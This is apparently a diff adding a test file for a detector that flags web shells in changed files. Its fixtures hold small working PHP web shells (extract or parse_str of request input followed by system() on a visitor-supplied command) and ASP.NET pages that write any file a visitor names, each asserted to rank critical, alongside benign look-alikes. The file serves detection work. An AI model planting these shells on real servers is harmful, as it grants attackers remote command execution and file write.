@@ -1,0 +1,116 @@
+/**
+ * Issue 27, split v2 tuning side: request input followed where a page turns it into
+ * variables (register_globals by hand), and ASP.NET pages that write the file a visitor
+ * types into the page's own text boxes.
+ */
+import { describe, expect, it } from 'vitest';
+import { evaluateChange } from '../../src/findings/change-rules.js';
+import { addedFile } from '../support/change-facts.js';
+
+const top = (path: string, text: string) => evaluateChange(addedFile(path, text))[0];
+const isAlarm = (path: string, text: string) =>
+  /critical|high/.test(top(path, text)?.severity ?? 'info');
+
+describe('request input turned into variables', () => {
+  it('ranks a function the visitor names through extract($_REQUEST) critical', () => {
+    expect(
+      top('/opt/x/m.php', '<?php @extract($_REQUEST); @die($ctime($atime)); ?>'),
+    ).toMatchObject({
+      rule: 'web-shell',
+      severity: 'critical',
+      reason: expect.stringMatching(/function named by request input \(\$ctime/),
+    });
+    expect(
+      top('/var/www/html/q.php', "<?php parse_str($_SERVER['QUERY_STRING']); system($c); ?>"),
+    ).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/system\(\) on request input/),
+    });
+  });
+
+  it('does not alarm on extract() of a form whose variables the page sets before calling', () => {
+    const page = `<?php
+extract($_POST);
+$render = 'render_' . basename(__FILE__, '.php');
+function render_page($title) { echo htmlspecialchars($title); }
+$render($title ?? 'home');
+?>`;
+    expect(isAlarm('/var/www/html/page.php', page)).toBe(false);
+  });
+});
+
+describe('register_globals-era pages', () => {
+  it("ranks a command run on its own form's field, read as a variable, critical", () => {
+    const page = `<?php
+echo '<form method="post"><textarea name="cmd" cols="50"></textarea><input type="submit"></form>';
+$cmd = stripslashes($cmd);
+echo 'running <b>' . $cmd . '</b>';
+system($cmd);
+?>`;
+    expect(top('/opt/x/b.php', page)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/system\(\) on request input/),
+    });
+    const extracted = `<?php
+if (!empty($HTTP_POST_VARS)) extract($HTTP_POST_VARS);
+system($command);
+?>`;
+    expect(top('/opt/x/c.php', extracted)).toMatchObject({ severity: 'critical' });
+  });
+
+  it('does not alarm on a form field whose variable the page sets itself', () => {
+    const page = `<?php
+$cmd = escapeshellarg(basename(__FILE__));
+echo '<form method="post"><input name="cmd"></form>';
+system('ls -l ' . $cmd);
+?>`;
+    expect(isAlarm('/var/www/html/list.php', page)).toBe(false);
+  });
+});
+
+describe('ASP.NET pages writing what the visitor names', () => {
+  const TEXTBOX_WRITER = `<%@ Page language="c#" %>
+<script runat="server">
+void Save(object s, EventArgs e) {
+  System.IO.FileInfo fil = new System.IO.FileInfo(T1.Text);
+  System.IO.StreamWriter sw = fil.CreateText();
+  sw.Write(T2.Text);
+  sw.Close();
+}
+</script>
+<form runat="server"><asp:TextBox id="T1" runat="server" /><asp:TextBox id="T2" TextMode="MultiLine" runat="server" />
+<asp:Button OnClick="Save" Text="save" runat="server" /></form>`;
+  const VB_WRITER = `<%@ Page Language="VB" %>
+<%@ import Namespace="System.IO" %>
+<script runat="server">
+sub Page_Load
+dim w as new streamwriter(request.form("path"), true, encoding.default) w.write(request.form("content"))
+w.close
+end sub
+</script>`;
+
+  it('ranks a page writing to the path typed in its own text box critical', () => {
+    expect(top('/var/www/html/up.aspx', TEXTBOX_WRITER)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/writes a file from request input/),
+    });
+    expect(top('/var/www/html/w.aspx', VB_WRITER)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/writes a file from request input/),
+    });
+  });
+
+  it('does not alarm on a page that writes its own log at a fixed path', () => {
+    const page = `<%@ Page language="c#" %>
+<script runat="server">
+void Page_Load(object s, EventArgs e) {
+  System.IO.StreamWriter sw = new System.IO.StreamWriter(Server.MapPath("~/App_Data/visits.log"), true);
+  sw.WriteLine(DateTime.UtcNow.ToString("o"));
+  sw.Close();
+  Status.Text = "logged";
+}
+</script>
+<form runat="server"><asp:Label id="Status" runat="server" /></form>`;
+    expect(isAlarm('/var/www/html/visits.aspx', page)).toBe(false);
+  });
+});
